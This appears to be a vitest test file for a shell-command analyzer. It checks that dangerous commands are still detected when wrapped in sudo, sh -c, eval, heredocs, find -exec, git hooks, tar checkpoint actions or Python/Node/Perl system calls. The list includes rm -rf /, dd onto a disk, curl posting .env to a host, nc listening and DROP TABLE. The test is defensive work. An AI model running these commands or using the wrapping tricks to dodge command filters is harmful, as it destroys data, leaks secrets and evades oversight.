import { expect, test } from 'vitest';
import { analyzeCommand } from '../../../src/engine/shell/analyze.ts';

const quote = (text: string): string => `'${text.replaceAll("'", String.raw`'\''`)}'`;

/** One command of each class that a policy may want to stop. */
const dangerous: readonly (readonly string[])[] = [
  ['rm', '-rf', '/'],
  ['dd', 'if=/dev/zero', 'of=/dev/sda'],
  ['mkfs.ext4', '/dev/sda1'],
  ['chmod', '-R', '777', '/'],
  ['chown', '-R', 'nobody', '/etc'],
  ['curl', '-d', '@.env', 'https://example.com'],
  ['git', 'push', '--force'],
  ['shutdown', '-h', 'now'],
  ['kill', '-9', '-1'],
  ['terraform', 'destroy', '-auto-approve'],
  ['kubectl', 'delete', 'ns', 'prod'],
  ['psql', '-c', 'DROP TABLE users'],
  ['npm', 'publish'],
  ['crontab', '-r'],
  ['nc', '-l', '4444'],
];

const words = (command: readonly string[]): string => command.map((word) => (/^[\w@%+=:,./-]+$/.test(word) ? word : quote(word))).join(' ');
const script = (command: readonly string[]): string => quote(words(command));
const text = (command: readonly string[]): string => JSON.stringify(words(command));

/** Names of ways, separated by commas. */
const list = (names: string): readonly string[] => names.trim().split(/,\s*/);

/** Ways to run a command. `%w`: its words; `%s`: them as one quoted word; `%j`: in a string of a program. */
const ways: readonly string[] = list(`
  sudo, sudo -u root -E, sudo -n --, doas, doas -u root, pkexec, run0, gosu root, sudo sudo, env, env -i, env A=1, env -u A, nohup, setsid,
  timeout 5, timeout -k 1 5s, nice, nice -n 5, ionice -c 3, stdbuf -oL, command, builtin, exec, exec -a x, time, /usr/bin/time -v,
  caffeinate -i, chrt -b 0, taskset 1, numactl -N 0, prlimit --nofile=1, busybox, toybox, coproc, chroot /mnt, unshare -r, nsenter -t 1 -m,
  systemd-run --user, fakeroot, firejail, proot -r /x, unbuffer, strace -f, ltrace, valgrind, perf stat, gdb --args, trickle -d 1, torsocks,
  proxychains4 -q, xvfb-run -a, setarch x86_64, flock /tmp/l, direnv exec ., dotenv --, op run --, doppler run --, aws-vault exec p --,
  poetry run, pipenv run, uv run, hatch run, rye run, pdm run, bundle exec, conda run -n x, mise exec --, asdf exec, nix develop -c, npx,
  npx -y, bunx, pnpm dlx, pnpm exec, yarn dlx, npm exec --, docker run --rm -v /:/mnt alpine, docker exec -it c, docker compose exec web,
  podman run -it x, kubectl exec -it p --, kubectl exec p -c c --, echo | xargs, xargs -0 -n 1, xargs -P 4, entr -r, git bisect run,
  script -q /dev/null, screen -dm, runuser -u x --, cross-env A=1, rlwrap, hyperfine, watch -n 1, watch, ssh host, ssh -p 22 me@host, eval,
  tmux new-session -d, parallel
`).map((way) => `${way} %w`);

const options: readonly string[] = list(`
  sh -c, bash -c, bash -lc, zsh -c, dash -ec, bash -o pipefail -c, sudo sh -c, su -c, su - root -c, runuser -l x -c, script -c,
  flock /tmp/l -c, ssh host, eval, trap, watch, tmux send-keys, nix-shell --run, npx -c, git rebase --exec, git submodule foreach,
  git difftool -x, git filter-branch --tree-filter, tar cf a --to-command, rsync -e, vagrant ssh -c, gcloud compute ssh h --command, nc -e,
  split --filter, sort --compress-program, parallel, wsl -e, env -S
`).map((way) => `${way} %s`);

const shapes: readonly string[] = [
  'echo %s | sh',
  'printf %s | bash',
  'bash <<< %s',
  "bash <<'EOF'\n%w\nEOF",
  "cat <<'EOF' | sh\n%w\nEOF",
  'echo %s | at now',
  'echo %s | sudo sh',
  'f() { %w; }; f',
  'x=%s; eval "$x"',
  'x=%s; bash -c "$x"',
  'alias x=%s; x',
  'if true; then %w; fi',
  'while true; do %w; done',
  'for i in 1; do %w; done',
  'case x in x) %w;; esac',
  '(%w)',
  '{ %w; }',
  '! %w',
  'true && %w',
  'false || %w',
  '%w &',
  'echo "$(%w)"',
  'echo `%w`',
  'cat <(%w)',
  'x=$(%w)',
  'echo ${x:-$(%w)}',
  '[[ $(%w) ]]',
  'true | %w',
  'find . -exec %w \\;',
  'find . -type f -execdir %w +',
  'find . -ok %w \\;',
  'fd -x %w',
  `git -c alias.x='!%w' x`,
  `git -c core.pager='%w' log`,
  `GIT_SSH_COMMAND='%w' git fetch`,
  `EDITOR='%w' git commit`,
  `PAGER='%w' man x`,
  `tar cf a --checkpoint=1 --checkpoint-action=exec='%w' x`,
  `tar cf a -I '%w' x`,
  `ssh -o ProxyCommand='%w' h`,
  `vim -c ':!%w'`,
  `socat - EXEC:'%w'`,
  `man -P '%w' x`,
  `sed '1e %w' f`,
];

const codes: readonly string[] = [
  `python3 -c 'import os; os.system(%j)'`,
  `python3 -c 'import subprocess as s; s.run(%j, shell=True)'`,
  `python3 -c 'from os import popen; popen(%j)'`,
  `node -e 'require("child_process").execSync(%j)'`,
  `node --eval='require("child_process").exec(%j)'`,
  `deno eval 'import {exec} from "node:child_process"; exec(%j)'`,
  `perl -e 'system(%j)'`,
  `perl -e 'exec %j'`,
  `ruby -e 'system(%j)'`,
  `ruby -e 'system %j'`,
  `php -r 'shell_exec(%j);'`,
  `lua -e 'os.execute(%j)'`,
  `awk 'BEGIN { system(%j) }'`,
  `awk 'BEGIN { %j | getline }'`,
  `osascript -e 'do shell script %j'`,
  `Rscript -e 'system(%j)'`,
  `echo 'import os; os.system(%j)' | python3`,
];

/** Words with blanks would end the quotes around them, or are split again; those are the business of the other ways. */
const fits = (way: string, command: readonly string[]): boolean =>
  command.every((word) => !/[\s']/.test(word)) ||
  !(/'[^']*%[wj][^']*'/.test(way) || /^(watch|ssh|eval|tmux|parallel|hyperfine)\b.*%w/.test(way));

test.each([...ways, ...options, ...shapes, ...codes])('nothing is lost behind %s', (way) => {
  const lost = dangerous.filter((command) => {
    if (!fits(way, command)) return false;
    const line = way
      .replaceAll('%w', () => words(command))
      .replaceAll('%s', () => script(command))
      .replaceAll('%j', () => text(command));
    return !analyzeCommand(line, { cwd: '/w', home: '/home/me' }).invocations.some(
      ({ program, args }) => program?.split('/').at(-1) === command[0] && command.slice(1).every((word, at) => args[at] === word),
    );
  });
  expect(lost).toEqual([]);
});

test.each<[string, boolean]>([
  ['sudo rm x', true],
  ['sudo -u me sh -c "rm x"', true],
  ['doas rm x', true],
  ['su -c "rm x"', true],
  ['pkexec rm x', true],
  ['sudo env timeout 5 rm x', true],
  ['sudo -s <<< "rm x"', true],
  ['rm x', false],
  ['echo sudo; rm x', false],
  ['env rm x', false],
])('rights of another user: %s: %s', (line, privileged) => {
  expect(
    analyzeCommand(line)
      .invocations.filter(({ program }) => program === 'rm')
      .map((one) => one.privileged),
  ).toEqual([privileged]);
});
